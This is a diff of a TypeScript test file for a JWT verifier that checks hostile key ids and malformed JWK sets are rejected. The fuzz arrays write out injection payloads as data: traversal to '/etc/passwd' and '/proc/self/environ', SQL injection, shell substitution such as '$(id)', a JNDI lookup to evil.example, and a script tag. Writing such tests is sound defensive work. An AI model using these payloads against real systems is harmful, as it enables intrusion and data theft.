@@ -9,18 +9,80 @@ import { outcome, verdict } from '../support/verdicts.ts';
 
 const key = testKey('ES256');
 
-const PLACES = ['/etc/passwd', '../../../../dev/null', 'file:///dev/null', 'C:\\Windows\\win.ini', '\\\\host\\share', '/proc/self/environ', 'https://evil.example/key', '//evil.example'];
-const COMMANDS = ["' OR '1'='1", '1; DROP TABLE keys--', "' UNION SELECT 'secret", '$(id)', '`id`', '| id', '; sleep 5', '${7*7}', '{{7*7}}', '#{7*7}', '%s%n', '*)(uid=*', '${jndi:ldap://evil.example/a}', '<script>alert(1)</script>'];
-const TEXTS = ['', '\0', 'a\0b', '\r\nX: y', '\u202e', '\u200b', '\ufeff', '\u{1f600}', 'Ω≈ç√', '田中さん', 'ﷺ', 'Z\u0351\u036b', 'null', 'undefined', 'NaN', 'true', '0', '-1', '1e400', '[object Object]', ' ', '%00', '%2e%2e%2f'];
-const NAMES = Object.getOwnPropertyNames(Object.prototype).concat(Object.getOwnPropertyNames(Function.prototype), Object.getOwnPropertyNames(Map.prototype));
+const PLACES = [
+  '/etc/passwd',
+  '../../../../dev/null',
+  'file:///dev/null',
+  'C:\\Windows\\win.ini',
+  '\\\\host\\share',
+  '/proc/self/environ',
+  'https://evil.example/key',
+  '//evil.example',
+];
+const COMMANDS = [
+  "' OR '1'='1",
+  '1; DROP TABLE keys--',
+  "' UNION SELECT 'secret",
+  '$(id)',
+  '`id`',
+  '| id',
+  '; sleep 5',
+  '${7*7}',
+  '{{7*7}}',
+  '#{7*7}',
+  '%s%n',
+  '*)(uid=*',
+  '${jndi:ldap://evil.example/a}',
+  '<script>alert(1)</script>',
+];
+const TEXTS = [
+  '',
+  '\0',
+  'a\0b',
+  '\r\nX: y',
+  '\u202e',
+  '\u200b',
+  '\ufeff',
+  '\u{1f600}',
+  'Ω≈ç√',
+  '田中さん',
+  'ﷺ',
+  'Z\u0351\u036b',
+  'null',
+  'undefined',
+  'NaN',
+  'true',
+  '0',
+  '-1',
+  '1e400',
+  '[object Object]',
+  ' ',
+  '%00',
+  '%2e%2e%2f',
+];
+const NAMES = Object.getOwnPropertyNames(Object.prototype).concat(
+  Object.getOwnPropertyNames(Function.prototype),
+  Object.getOwnPropertyNames(Map.prototype),
+);
 /** Each of them alone, before, behind and around the real key id. */
-const KIDS = [...PLACES, ...COMMANDS, ...TEXTS, ...NAMES].flatMap((text) => [text, text + key.kid, key.kid + text, text + key.kid + text, text.repeat(3), `${text}/${key.kid}`, `${key.kid}\0${text}`]).filter((kid) => kid !== key.kid);
+const KIDS = [...PLACES, ...COMMANDS, ...TEXTS, ...NAMES]
+  .flatMap((text) => [
+    text,
+    text + key.kid,
+    key.kid + text,
+    text + key.kid + text,
+    text.repeat(3),
+    `${text}/${key.kid}`,
+    `${key.kid}\0${text}`,
+  ])
+  .filter((kid) => kid !== key.kid);
 
 describe('C7: hostile key ids', () => {
   test('C7: at least 515 of them find nothing', async () => {
     expect(KIDS.length).toBeGreaterThanOrEqual(515);
     const verifier = verifierOf(key);
-    for (const kid of KIDS) expect(await verdict(verifier, makeToken(key, { header: { kid } })), kid).toMatch(/^(key_unknown|header_invalid)$/);
+    for (const kid of KIDS)
+      expect(await verdict(verifier, makeToken(key, { header: { kid } })), kid).toMatch(/^(key_unknown|header_invalid)$/);
   });
 
   test('C7: a key id has 1 to 256 characters and is text', async () => {
@@ -31,7 +93,9 @@ describe('C7: hostile key ids', () => {
     const longest = freshKey('ES256', 'k'.repeat(256));
     expect(await verdict(verifierOf(longest), makeToken(longest))).toBe('accepted');
     for (const kid of ['', 'k'.repeat(257), 5, null]) {
-      expect(outcome(() => createLocalKeys({ issuer: ISSUER, keys: [{ ...key.material, kid } as never] }))).toBe('config_invalid');
+      expect(outcome(() => createLocalKeys({ issuer: ISSUER, keys: [{ ...key.material, kid } as never] }))).toBe(
+        'config_invalid',
+      );
     }
   });
 
@@ -47,7 +111,12 @@ describe('C7: hostile key ids', () => {
 });
 
 describe('C8: traps in a key set', () => {
-  const jwk = (one: typeof key, extra: object = {}): object => ({ ...one.publicKey!.export({ format: 'jwk' }), kid: one.kid, alg: one.alg, ...extra });
+  const jwk = (one: typeof key, extra: object = {}): object => ({
+    ...one.publicKey!.export({ format: 'jwk' }),
+    kid: one.kid,
+    alg: one.alg,
+    ...extra,
+  });
   const ALGORITHMS = ['ES256', 'RS256'];
   const parse = (...keys: unknown[]): ReturnType<typeof parseJwkSet> => parseJwkSet({ keys }, ALGORITHMS);
 
@@ -69,7 +138,11 @@ describe('C8: traps in a key set', () => {
 
   test('C8: one Ed25519 key under both of its names verifies both', async () => {
     const one = freshKey('Ed25519', 'ed');
-    const keys = createLocalKeys({ issuer: ISSUER, jwks: { keys: [jwk(one), jwk(one, { alg: 'EdDSA' })] }, algorithms: ['Ed25519', 'EdDSA'] });
+    const keys = createLocalKeys({
+      issuer: ISSUER,
+      jwks: { keys: [jwk(one), jwk(one, { alg: 'EdDSA' })] },
+      algorithms: ['Ed25519', 'EdDSA'],
+    });
     const verifier = verifierOf(one, { keys });
     expect(await verdict(verifier, makeToken(one))).toBe('accepted');
     expect(await verdict(verifier, makeToken(one, { header: { alg: 'EdDSA' } }))).toBe('accepted');
@@ -92,14 +165,27 @@ describe('C8: traps in a key set', () => {
     const set = parse(member, jwk(key));
     expect(set.keys.map((one) => one.kid)).toEqual([key.kid]);
     expect(set.ignored).toEqual([{ index: 0, reason: expect.stringMatching(/./) }]);
-    expect(outcome(() => createLocalKeys({ issuer: ISSUER, jwks: { keys: [member] }, algorithms: ALGORITHMS }))).toBe('config_invalid');
+    expect(outcome(() => createLocalKeys({ issuer: ISSUER, jwks: { keys: [member] }, algorithms: ALGORITHMS }))).toBe(
+      'config_invalid',
+    );
   });
 
   test.each([null, undefined, [], 5, 'x', true])('C8: the member %j is passed over', (member) => {
     expect(parse(member, jwk(key)).ignored).toHaveLength(1);
   });
 
-  test.each([null, undefined, [], {}, { keys: null }, { keys: {} }, { keys: 'x' }, 'x', 5, { keys: Array.from({ length: 101 }, () => ({})) }])('C8: %j is no key set', (value) => {
+  test.each([
+    null,
+    undefined,
+    [],
+    {},
+    { keys: null },
+    { keys: {} },
+    { keys: 'x' },
+    'x',
+    5,
+    { keys: Array.from({ length: 101 }, () => ({})) },
+  ])('C8: %j is no key set', (value) => {
     expect(outcome(() => parseJwkSet(value, ALGORITHMS))).toBe('config_invalid');
   });
 });
